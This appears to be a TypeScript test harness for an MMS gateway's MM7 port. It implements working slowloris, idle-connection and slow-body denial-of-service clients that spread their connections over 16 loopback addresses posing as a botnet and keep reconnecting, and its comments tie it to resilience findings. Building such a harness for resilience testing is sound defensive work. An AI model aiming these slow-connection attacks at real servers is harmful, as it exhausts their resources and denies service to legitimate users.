/**
 * Hostile clients of the gateway's MM7 port, as the issue-18 siege and descriptor tests run
 * them: idle connections (never send a byte), slowloris (one header byte at a time, never
 * finishing the header) and slow bodies (authenticated, a 6 MiB body trickled in chunks). Each
 * kind holds a number of slots; a slot whose connection the gateway closes reconnects after a
 * pause, as an attacker would, so the pressure lasts as long as the attack.
 */
import * as net from "node:net";

/** What one attack is made of. */
export interface AttackPlan {
  readonly host: string;
  readonly port: number;
  readonly idle: number;
  readonly slowloris: number;
  readonly slowBodies: number;
  /** `Authorization` of the slow bodies (a VASP's valid credentials). */
  readonly slowBodyAuthorization: string;
}

/**
 * The attackers' source addresses, slots spread over them in turn: a small botnet, so that a
 * cap per client address cannot hold off the attack alone, and never the legitimate VASP's
 * 127.0.0.1 (every address of 127.0.0.0/8 is the loopback interface's on Linux).
 */
export const ATTACKER_ADDRESSES: readonly string[] = Array.from(
  { length: 16 },
  (_, at) => `127.0.1.${at + 1}`,
);

/** One kind's figures, over the whole attack. */
export interface AttackFigures {
  readonly slots: number;
  /** Connections established (first ones and reconnections). */
  connects: number;
  /** Connection attempts that failed (refused, reset before connecting). */
  failedConnects: number;
  /** Established connections that the gateway closed or reset while the attack went on. */
  closedByGateway: number;
  /** Connections open now. */
  open: number;
  /** The longest any of this kind's connections stayed open, in ms. */
  longestOpenMs: number;
  /** The gateway's answers on these connections, by HTTP status. */
  readonly answers: Record<string, number>;
}

/** The attack's figures by kind. */
export type SiegeFigures = Record<"idle" | "slowloris" | "slowBodies", AttackFigures>;

/**
 * How long a slot waits before reconnecting: without a pause, a gateway that closes connections
 * at once would turn the attack into a busy loop that starves both processes of the machine's
 * two cores, measuring the loop rather than the gateway.
 */
export const RECONNECT_DELAY_MS = 1_000;

/** Slowloris sends one header byte this often (the finding 4: one a second). */
export const SLOWLORIS_BYTE_INTERVAL_MS = 1_000;

/** A slow body is the largest the gateway takes (its `bodyByteSizeMax` default, 6 MiB). */
export const SLOW_BODY_BYTE_SIZE = 6 * 1024 * 1024;

/**
 * A slow body arrives 64 KiB at a time every 150 ms (about 430 KiB/s), so a whole 6 MiB body
 * takes some 15 s: within a 20 s siege the 40 bodies are all in flight at once, near complete,
 * which is what took the gateway from 126 MB to 443 MB in the finding 3.
 */
export const SLOW_BODY_CHUNK_BYTE_SIZE = 64 * 1024;
export const SLOW_BODY_CHUNK_INTERVAL_MS = 150;

type Kind = keyof SiegeFigures;

/** Keeps one hostile connection of `kind` open, reconnecting while the attack lasts. */
class Slot {
  readonly #kind: Kind;
  readonly #plan: AttackPlan;
  readonly #figures: AttackFigures;
  /** The source address of this slot's connections. */
  readonly #localAddress: string;
  #socket: net.Socket | undefined;
  #connectedAt: number | undefined;
  #timer: NodeJS.Timeout | undefined;
  #running = true;
  /** Resolves once the first connection attempt is settled, either way. */
  readonly firstSettled: Promise<void>;
  #settle: () => void = () => undefined;

  constructor(kind: Kind, plan: AttackPlan, figures: AttackFigures, localAddress: string) {
    this.#kind = kind;
    this.#localAddress = localAddress;
    this.#plan = plan;
    this.#figures = figures;
    this.firstSettled = new Promise((resolve) => {
      this.#settle = resolve;
    });
    this.#open();
  }

  #open(): void {
    const { port, host } = this.#plan;
    const socket = net.connect({ port, host, localAddress: this.#localAddress });
    this.#socket = socket;
    let connectedAt: number | undefined;
    let answered = false;
    let closedBySelf = false;
    socket.on("connect", () => {
      connectedAt = performance.now();
      this.#connectedAt = connectedAt;
      this.#figures.connects += 1;
      this.#figures.open += 1;
      this.#settle();
      this.#behave(socket);
    });
    socket.on("data", (chunk: Buffer) => {
      if (answered) return;
      answered = true;
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(chunk.toString("latin1"))?.[1] ?? "other";
      this.#figures.answers[status] = (this.#figures.answers[status] ?? 0) + 1;
      // A slow body answered: the attacker starts another on a new connection.
      if (this.#kind === "slowBodies") {
        closedBySelf = true;
        socket.destroy();
      }
    });
    socket.on("error", () => undefined);
    socket.on("close", () => {
      clearInterval(this.#timer);
      if (connectedAt === undefined) this.#figures.failedConnects += 1;
      else {
        this.#figures.open -= 1;
        this.#noteOpenFor(performance.now() - connectedAt);
        this.#connectedAt = undefined;
        if (this.#running && !closedBySelf) this.#figures.closedByGateway += 1;
      }
      this.#settle();
      if (this.#running) this.#timer = setTimeout(() => this.#open(), RECONNECT_DELAY_MS);
    });
  }

  /** What the connection does once open: nothing, a header byte at a time, or a slow body. */
  #behave(socket: net.Socket): void {
    if (this.#kind === "slowloris") {
      const header = Buffer.from("GET /health HTTP/1.1\r\nHost: gateway\r\nX-Slowloris: ");
      let sent = 0;
      const next = () => {
        socket.write(sent < header.byteLength ? header.subarray(sent, sent + 1) : "a");
        sent += 1;
      };
      next();
      this.#timer = setInterval(next, SLOWLORIS_BYTE_INTERVAL_MS);
    } else if (this.#kind === "slowBodies") {
      socket.write(
        "POST /mm7 HTTP/1.1\r\nHost: gateway\r\n" +
          `Authorization: ${this.#plan.slowBodyAuthorization}\r\n` +
          'Content-Type: multipart/related; boundary="slow"; type="text/xml"\r\n' +
          `Content-Length: ${SLOW_BODY_BYTE_SIZE}\r\n\r\n`,
      );
      const chunk = Buffer.alloc(SLOW_BODY_CHUNK_BYTE_SIZE, 0x61);
      let sent = 0;
      this.#timer = setInterval(() => {
        const byteSize = Math.min(chunk.byteLength, SLOW_BODY_BYTE_SIZE - sent);
        if (byteSize === 0) return clearInterval(this.#timer);
        socket.write(chunk.subarray(0, byteSize));
        sent += byteSize;
      }, SLOW_BODY_CHUNK_INTERVAL_MS);
    }
  }

  #noteOpenFor(openMs: number): void {
    this.#figures.longestOpenMs = Math.max(this.#figures.longestOpenMs, Math.round(openMs));
  }

  /** Stops the slot; a connection still open counts its age so far. */
  stop(): void {
    if (this.#connectedAt !== undefined) this.#noteOpenFor(performance.now() - this.#connectedAt);
    this.#running = false;
    clearTimeout(this.#timer);
    clearInterval(this.#timer);
    this.#socket?.destroy();
  }
}

/** A running attack. */
export interface Siege {
  readonly figures: SiegeFigures;
  /** Resolves once every slot's first connection attempt has settled. */
  readonly ready: Promise<void>;
  /** Closes every hostile connection; no slot reconnects after. */
  stop(): void;
}

/** Starts the attack the plan describes. */
export function startSiege(plan: AttackPlan): Siege {
  const figuresOf = (slots: number): AttackFigures => ({
    slots,
    connects: 0,
    failedConnects: 0,
    closedByGateway: 0,
    open: 0,
    longestOpenMs: 0,
    answers: {},
  });
  const figures: SiegeFigures = {
    idle: figuresOf(plan.idle),
    slowloris: figuresOf(plan.slowloris),
    slowBodies: figuresOf(plan.slowBodies),
  };
  const slots: Slot[] = [];
  // The costly connections first: with idle ones first, a gateway without a cap fills its
  // descriptor table with them and resets the others before they send a byte.
  for (const kind of ["slowBodies", "slowloris", "idle"] as const) {
    for (let at = 0; at < figures[kind].slots; at++) {
      const address = ATTACKER_ADDRESSES[slots.length % ATTACKER_ADDRESSES.length]!;
      slots.push(new Slot(kind, plan, figures[kind], address));
    }
  }
  return {
    figures,
    ready: Promise.all(slots.map((slot) => slot.firstSettled)).then(() => undefined),
    stop() {
      for (const slot of slots) slot.stop();
    },
  };
}
